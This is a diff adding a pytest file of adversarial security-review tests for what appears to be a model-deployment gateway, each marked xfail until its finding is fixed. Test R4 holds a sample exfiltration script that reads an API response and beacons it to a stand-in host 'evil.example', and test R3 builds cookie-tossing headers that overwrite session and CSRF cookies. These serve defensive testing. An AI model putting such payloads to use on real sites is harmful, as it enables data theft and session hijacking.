@@ -1,0 +1,195 @@
+"""Adversarial review of issue 16 (deployments), second wave: each test proves one finding
+of /work/wt/REVIEW16.md and is marked xfail(strict=True) with the finding's id. The fixer
+removes the mark once the finding is fixed (strict: a fixed finding whose mark stays fails).
+"""
+
+# ruff: noqa: F811 (model_servers: test_gateway's fixture, imported to be used here)
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Any
+
+import httpx
+import pytest
+
+from apps.accounts.tokens import token_revoke_all
+from tests.asgi_server import serving
+from tests.deployments.test_gateway import _deploy, _host_call, _token, model_servers  # noqa: F401
+
+if TYPE_CHECKING:
+    from apps.accounts.models import User
+    from apps.teams.models import Team
+
+pytestmark = pytest.mark.django_db(transaction=True)
+
+
+@pytest.mark.xfail(strict=True, reason="R1: token_revoke_all updates rows without a signal")
+def test_r1_tokens_revoked_all_at_once_are_refused_at_once(
+    acme: Team,
+    bob: User,
+    model_servers: list[str],
+    asgi_live_server: str,
+) -> None:
+    _deploy(acme, endpoints=model_servers[:1])
+    plaintext = _token(bob)
+    assert _host_call(asgi_live_server, token=plaintext).status_code == 200
+
+    assert token_revoke_all(user=bob) == 1
+
+    # Decision 12: a revoked token is refused on the next request (the cached decision
+    # stays up to DECISION_SECONDS = 60 s since no generation was bumped).
+    assert _host_call(asgi_live_server, token=plaintext).status_code == 401
+
+
+@pytest.mark.xfail(strict=True, reason="R2: the rate limit counts by any bearer sent")
+def test_r2_a_public_deployments_rate_limit_is_not_escaped_by_sending_junk_bearers(
+    acme: Team,
+    model_servers: list[str],
+    asgi_live_server: str,
+) -> None:
+    _deploy(acme, auth_mode="public", endpoints=model_servers[:1], rate_limit_per_minute=3)
+    # One client (one address), a fresh made-up "credential" on each request: a public
+    # deployment checks no credential, so each one must not be a new caller.
+    answers = [_host_call(asgi_live_server, token=f"junk-{n}").status_code for n in range(6)]
+
+    assert answers.count(429) >= 3
+
+
+def _replica_app(headers: list[tuple[bytes, bytes]], body: bytes = b"x") -> Any:
+    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
+        if scope["type"] != "http":
+            return
+        await send({"type": "http.response.start", "status": 200, "headers": headers})
+        await send({"type": "http.response.body", "body": body})
+
+    return app
+
+
+@pytest.mark.xfail(strict=True, reason="R3: the gateway passes a replica's Set-Cookie through")
+def test_r3_a_replica_cannot_set_lattices_or_notebooks_cookies_from_its_origin(
+    acme: Team, asgi_live_server: str
+) -> None:
+    from django.conf import settings
+
+    from apps.notebooks.proxy.asgi import lattice_cookies
+
+    domain = settings.LATTICE_USER_CONTENT_DOMAIN
+    tossed = [
+        (b"set-cookie", f"{name}=attacker; Domain={domain}; Path=/".encode())
+        for name in sorted(lattice_cookies())
+    ]
+    app = _replica_app([(b"content-type", b"text/plain"), *tossed])
+    with serving(app, name="cookie-tossing-replica") as replica:
+        _deploy(acme, auth_mode="public", endpoints=[replica])
+        answer = _host_call(asgi_live_server)
+    assert answer.status_code == 200
+    set_cookies = answer.headers.get_list("set-cookie")
+    # The notebook proxy drops these (apps.notebooks.proxy.http._response_headers); here a
+    # public deployment (anyone's) may overwrite Lattice's csrftoken/sessionid on the parent
+    # domain (the embedded default serves Lattice at `localhost`) and every notebook's pass.
+    assert [c for c in set_cookies if c.split("=", 1)[0] in lattice_cookies()] == []
+
+
+@pytest.mark.xfail(strict=True, reason="R4: a replica's script and SW scope served as Lattice")
+def test_r4_the_invoke_path_never_serves_a_replicas_script_on_lattices_origin(
+    acme: Team, asgi_live_server: str
+) -> None:
+    app = _replica_app(
+        [
+            (b"content-type", b"text/javascript"),
+            (b"service-worker-allowed", b"/"),
+            (b"access-control-allow-origin", b"https://evil.example"),
+            (b"access-control-allow-credentials", b"true"),
+        ],
+        body=b"fetch('/api/v1/teams/').then(r => r.text())"
+        b".then(t => navigator.sendBeacon('//evil.example', t))",
+    )
+    with serving(app, name="script-replica") as replica:
+        _deploy(acme, auth_mode="public", endpoints=[replica])
+        answer = httpx.get(f"{asgi_live_server}/api/v1/teams/acme/deployments/chat/invoke/sw.js")
+    assert answer.status_code == 200
+    assert answer.headers["content-security-policy"] == "sandbox"
+    # CSP sandbox guards a document, not a script: <script src> or
+    # navigator.serviceWorker.register() from any Lattice page loads this as Lattice's own
+    # ('self'), so one HTML injection anywhere becomes script with a whole-origin worker.
+    content_type = answer.headers["content-type"].split(";")[0].strip().lower()
+    assert "javascript" not in content_type
+    assert "ecmascript" not in content_type
+    assert "service-worker-allowed" not in answer.headers
+    assert "access-control-allow-credentials" not in answer.headers
+
+
+@pytest.mark.xfail(strict=True, reason="R5: <slug>--<team> can exceed a DNS label's 63 bytes")
+def test_r5_a_deployments_host_name_label_fits_in_dns(alice: User) -> None:
+    from apps.deployments.endpoints import endpoint_host
+    from apps.deployments.services import clean_name
+    from apps.teams.services import team_create
+
+    # Both slugs as the services make them: a team's up to 50 characters, a deployment's
+    # up to 40, and "--" between: up to 92 characters in one label.
+    team = team_create(actor=alice, name="Research and Development Laboratory of North Europe")
+    _, slug = clean_name(team, "Customer support ticket classifier (production)")
+    label = endpoint_host(team.slug, slug).split(".")[0]
+
+    assert len(label) <= 63, f"{label!r} is {len(label)} characters: no resolver takes it"
+
+
+@pytest.mark.xfail(strict=True, reason="R6: every signed-in page view bumps the credentials")
+def test_r6_a_signed_in_page_view_does_not_make_every_gateway_decision_stale(
+    client: Any, bob: User, acme: Team
+) -> None:
+    from apps.deployments.routing import CREDENTIALS_GENERATION, generations
+
+    client.force_login(bob)
+    client.get(f"/t/{acme.slug}/deployments/")  # the first: the session's row is made
+    before = generations([CREDENTIALS_GENERATION])[CREDENTIALS_GENERATION]
+
+    # allauth's UserSessionsMiddleware (USERSESSIONS_TRACK_ACTIVITY) saves the UserSession
+    # row on each request; the gateway's receiver takes that for a credential change, so
+    # every process drops every cached decision of every deployment on every page view.
+    assert client.get(f"/t/{acme.slug}/deployments/").status_code == 200
+    after = generations([CREDENTIALS_GENERATION])[CREDENTIALS_GENERATION]
+
+    assert after == before
+
+
+@pytest.mark.xfail(strict=True, reason="R7: a held request is never decided again")
+def test_r7_a_held_request_whose_key_is_revoked_meanwhile_is_not_served(
+    acme: Team,
+    model_servers: list[str],
+    asgi_live_server: str,
+    settings: Any,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    import threading
+
+    from django.utils import timezone
+
+    from apps.deployments import controller
+    from apps.deployments.models import DeploymentKey, Revision
+    from tests.deployments.test_gateway import _replica, _sha
+
+    settings.LATTICE_DEPLOYMENT_COLD_WAIT = 15.0
+    deployment = _deploy(acme, auth_mode="protected")
+    revision = Revision.objects.for_team(acme).get(deployment=deployment)
+    key = "ldk_" + "h" * 40
+    row = DeploymentKey.objects.create(
+        team=acme, deployment=deployment, name="ci", key_hash=_sha(key), display_prefix=key[:8]
+    )
+
+    def revoke_then_ready() -> None:
+        # While the request is held: the key is revoked, then a replica becomes ready.
+        row.revoked_at = timezone.now()
+        row.save(update_fields=["revoked_at"])
+        _replica(revision, model_servers[0])
+
+    def wake(deployment_id: int) -> None:
+        threading.Timer(0.6, revoke_then_ready).start()
+
+    monkeypatch.setattr(controller, "deployment_wake", wake)
+    answer = _host_call(asgi_live_server, token=key, timeout=15)
+
+    # Decision 12: a revoked key opens nothing from then on; this one still reaches the
+    # replica (the hold loop re-reads the route only, never the decision, the deletion
+    # or the pause).
+    assert answer.status_code in (401, 403, 503)
